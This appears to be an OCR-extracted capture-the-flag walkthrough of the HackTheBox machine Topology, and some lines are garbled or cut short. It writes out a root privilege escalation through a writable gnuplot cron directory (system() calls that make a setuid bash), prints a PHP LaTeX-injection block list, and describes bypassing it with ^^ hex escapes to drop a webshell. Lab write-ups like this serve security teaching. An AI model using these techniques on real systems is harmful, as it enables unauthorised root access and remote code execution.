Enmerating DevThe site is about software developed by the staff from the university:image-20230907105933702 expand

There’s nothing too interesting here. The only links go back to latex.topology.htb.


The same creds do with for vdaisley over SSH:

oxdf@hacky$ sshpass -p calculus20 ssh vdaisley@topology.htb
Welcome to Ubuntu 20.04.6 LTS (GNU/Linux 5.4.0-150-generic x86_64)

And grab user.txt:

vdaisley@topology:~$ cat user.txt

Shell as root


File System

vdaisley’s home directory is very empty:

vdaisley@topology:~$ ls -a
.  ..  .bash_history  .bash_logout  .bashrc  .cache  .config  .profile  user.txt

There are no other directories in /home.

/opt has an interesting folder, but vdaisley can’t access it:vdaisley@topology:/opt$ ls
vdaisley@topology:/opt$ ls gnuplot/
ls: cannot open directory 'gnuplot/': Permission denied

However, vdaisley can write in this directory:

vdaisley@topology:/opt$ ls -ld gnuplot/
drwx-wx-wx 2 root root 4096 Sep  7 13:49 gnuplot/


ps auxww doesn’t show anything that jumps out as super interesting to me. I’ll grab a copy of pspy from GitHub, host it on my VM in a web-accessible directory, and upload it to Topology with wget:vdaisley@topology:/dev/shm$ wget
--2023-09-07 13:45:22--
Connecting to connected.
HTTP request sent, awaiting response... 200 OK
Length: 3104768 (3.0M) [application/octet-stream]
Saving to: ‘pspy64’

pspy64                                               100%[===>]   2.96M  3.67MB/s    in 0.8s

2023-09-07 13:45:23 (3.67 MB/s) - ‘pspy64’ saved [3104768/3104768]

I’ll set it as executable and run it:

vdaisley@topology:/dev/shm$ chmod +x pspy64
vdaisley@topology:/dev/shm$ ./pspy64

On the minute, there’s a set of processes that show up:

2023/09/07 13:47:01 CMD: UID=0     PID=218687 | /usr/sbin/CRON -f
2023/09/07 13:47:01 CMD: UID=0     PID=218686 | /usr/sbin/CRON -f
2023/09/07 13:47:01 CMD: UID=0     PID=218688 |
2023/09/07 13:47:01 CMD: UID=0     PID=218690 | /usr/sbin/CRON -f2023/09/07 13:47:01 CMD: UID=0     PID=218689 | /bin/sh /opt/gnuplot/
2023/09/07 13:47:01 CMD: UID=0     PID=218691 | find /opt/gnuplot -name *.plt -exec gnuplot {} ;
2023/09/07 13:47:01 CMD: UID=0     PID=218700 | sed s/,//g
2023/09/07 13:47:01 CMD: UID=0     PID=218699 | /bin/sh /opt/gnuplot/
2023/09/07 13:47:01 CMD: UID=0     PID=218698 | /bin/sh /opt/gnuplot/
2023/09/07 13:47:01 CMD: UID=0     PID=218697 | uptime
2023/09/07 13:47:01 CMD: UID=0     PID=218696 | gnuplot /opt/gnuplot/loadplot.plt2023/09/07 13:47:01 CMD: UID=???   PID=218695 | ???
2023/09/07 13:47:01 CMD: UID=???   PID=218694 | ???
2023/09/07 13:47:01 CMD: UID=???   PID=218693 | ???
2023/09/07 13:47:01 CMD: UID=0     PID=218701 | /bin/sh /opt/gnuplot/
2023/09/07 13:47:01 CMD: UID=0     PID=218702 | /bin/sh /opt/gnuplot/
2023/09/07 13:47:01 CMD: UID=0     PID=218703 | gnuplot /opt/gnuplot/networkplot.plt

The first four lines are just CRON starting. What’s interesting comes next - it is calling /opt/gnuplot/, which is using find to get all .plt files from /opt/gnuplot and passes them to gnuplot!

Execution via gnuplot


I can write to /opt/gnuplot and any .plt file in that directory will get run each minute. In theory, if I can run a script from a .plt (which it looks like may be happening in the two files in there now), then I should be able to get arbitrary code execution.

To test this, I’ll write a simple .plt file using the system command, startingwith something based on the example in these docs:

output = system("id")

I’ll want to write the results somewhere. The docs for print say that the output file can be set with set print:

set print "/dev/shm/0xdf-output"
output = system("id")

I’ll write that to a .plt file (using cat and << EOF to write until it gets a line with EOF):

vdaisley@topology:/opt$ cat > /opt/gnuplot/0xdf.plt << EOF
> set print "/dev/shm/0xdf-output"
> output = system("id")
> print(output)

When the next minute rolls over, the output file is there:

vdaisley@topology:/opt$ cat /dev/shm/0xdf-outputuid=0(root) gid=0(root) groups=0(root)

It executed as root.


I’ll update my .plt file to create a copy of bash owned by root with the SetUID/SetGID bits on:

vdaisley@topology:/opt$ cat > /opt/gnuplot/0xdf.plt << EOF
> system("cp /bin/bash /tmp/0xdf")
> system("chmod 6777 /tmp/0xdf")

Next minute, the file is there, and the user and group execute permissions are s, showing that it worked:

vdaisley@topology:/opt$ ls -l /tmp/0xdf
-rwsrwsrwx 1 root root 1183448 Sep  7 14:10 /tmp/0xdf

I’ll run that with -p to not drop privs, and get a shell as root:

vdaisley@topology:/opt$ /tmp/0xdf -p
0xdf-5.0# id
uid=1007(vdaisley) gid=1007(vdaisley) euid=0(root) egid=0(root) groups=0(root),1007(vdaisley)

And read the second flag:

0xdf-5.0# cat /root/root.txt

Beyond Root - Unintendeds / Filter Bypass



The PHP on the site that handles the LaTeX is in equation.php. Submitting the form generates a GET request to a URL like:



Looking at the source as root, if eqn is set, then it runs this code to filter the input:$texinput = $_GET['eqn'];
# secure against common latex injections
$filterstrings = array("\\begin","\\immediate","\\usepackage","\\input","\\write","\\loop","\\include","\\@","\\while","\\def","\\url","\\href","\\end");
foreach($filterstrings as $filterstring) {
        if (stripos($texinput, $filterstring) !== FALSE) {
                $texinput="\$Illegal command detected. Sorry.\$";
if (strlen($texinput)>=200) {
        $texinput = "\$Input too long. Sorry.\$";

If the input contains any of a bunch of potentially dangerous strings or is too long, it replaces the input with the error message. That explains why the error comesback as a PNG.

It then adds a header to the input:

// texfile content, insert default header and user input
$texsource = "\\documentclass{standalone}
$" . $texinput . "$"."\\end{document}";

Next it gets a random filename in the tempfiles directory and write the LaTeX template to it:

// create random filename
$fileid = uniqid(rand(),true);
$texfilename = "tempfiles/" . $fileid . ".tex";
$texfile = fopen("$texfilename","w");
fputs($texfile, $texsource);

It runs pdflatex on the new file, and then converts the output to a PNG with convert (part of ImageMagick):

exec("pdflatex " . basename($texfilename) . " > /dev/null 2>&1");
exec("convert -density 300 ".$fileid.".pdf "."$fileid".".png > /dev/null 2>&1");

It opens the PNG and sends it back to the requester:$fp = fopen($fileid . ".png", 'rb');
header("Content-Type: image/png");
header("Content-Length: " . filesize($fileid.".png"));

And does some cleanup:

// delete temp image and logs
exec("rm -f ".$fileid.".*");
exec("rm -f *.log");

Filter Bypass

Ippsec was reading this blog post about bypassing LaTeX filters where it talks about a bypass using the \catcode directive:

How does it work?

To start, it sets the “@” character to represent superscript values. We use two of them to tell LaTeX to use the hex value that follows after.

His thought was to just use ^ and see if that works, and it does! We tried something like \input, and it goes from blocked to crashing:


This isn’t execution, but it is bypassing the filter. What does work is \write. On it’s own, it’s blocked:


But replace the “w” with “^^77” and it gets through.


To write a file, I’ll need a few LaTeX commands:


To send those to Topology, I initially tried ; as a separator, but no separator at all works as well:


When I send this, the resulting PNG is empty:


Going over to latex.topology.htb/tempfiles, it’s there:


I’ll change the written text to a PHP webshell, and the output filename to cmd.php:On reloading, cmd.php is there:


And using it as a webshell works for execution:


There was a patch after the initial release of this box as shown in this changelog:


I believe the original person to root solved by writing a webshell with \write (or a similar method like \begin{filecontent*}{shell.php}) and the patch was increasing the filter. But even that is bypassable using ^^.

Beyond Root - Broken Graphs


I noted during enumeration that the timestamps for the images on the stats.topology.htb website were updating every minute. It really bugged me that one of the two images was returning empty. I’m going to figure out what’s going on.I’ll start by looking at the crons being run by root:

root@topology:/opt/gnuplot# crontab -l
# m h  dom mon dow   command
* * * * * /opt/gnuplot/
* * * * * find "/opt/gnuplot" -name "*.plt" -exec gnuplot {} \;
*/10 * * * * find "/opt/gnuplot" -name "*.plt" -mmin +5 -mmin -300 -exec /usr/bin/rm -rf {} \;

There are three. runs every minute:

# get network data
netstat -i | grep enp| tr -s ' ' | cut -d ' ' -f3,7 >> /opt/gnuplot/netdata.dat
# get uptime datauptime | grep -o "load average:.*$" | cut -d' ' -f 3 | sed 's/,//g' >> /opt/gnuplot/loaddata.dat
# get only the last 60 values
#sed -i '61,$ d' /opt/gnuplot/netdata.dat
echo "$(tail -60 /opt/gnuplot/netdata.dat)" > /opt/gnuplot/netdata.dat
#sed -i '61,$ d' /opt/gnuplot/loaddata.dat
echo "$(tail -60 /opt/gnuplot/loaddata.dat)" > /opt/gnuplot/loaddata.dat

The first line runs a netstat and gets some data out of it. It actually produces nothing. I’ll look at the netstat output:

root@topology:/opt/gnuplot# netstat -i
Kernel Interface table
eth0      1500   373645      0      0 0594728      0      0      0 BMRU
lo       65536   744269      0      0 0        744269      0      0      0 LRU

That is piped into grep enp. But there is no enp interface! This probably existed when the author was developing, but then got broken when it imported to HackTheBox and the interface names changed. If I change that from “enp” to “eth”, it gives the RX-OK and TX-OK values, which are received and transmitted counts:

root@topology:/opt/gnuplot# netstat -i | grep eth | tr -s ' ' | cut -d ' ' -f3,7
373826 594896

So is that why network.png is empty? Actually not. Each minute this result is appended to netdata.dat, so this just doesn’t change the file, which still has data:

root@topology:/opt/gnuplot# wc -l netdata.dat
60 netdata.dat
root@topology:/opt/gnuplot# head netdata.dat
15877 27855
16248 28281
16284 28365
16653 28610
17011 28978
17454 29478
17787 29725
17997 29903
18330 30138
18784 30431

The next command gets the “load average” value from uptime:

root@topology:/opt/gnuplot# uptime
 09:52:18 up 7 days, 18:28,  1 user,  load average: 0.14, 0.03, 0.01
root@topology:/opt/gnuplot# uptime | grep -o "load average:.*$" | cut -d' ' -f 3 | sed 's/,//g'

Then the script wants to get only the most recent 60 measurements for each file. It looks like the author played with using sed , but commented that out in favor of tail.

So while the netdata.dat file isn’t updating as expected, it should still have data to create an image.


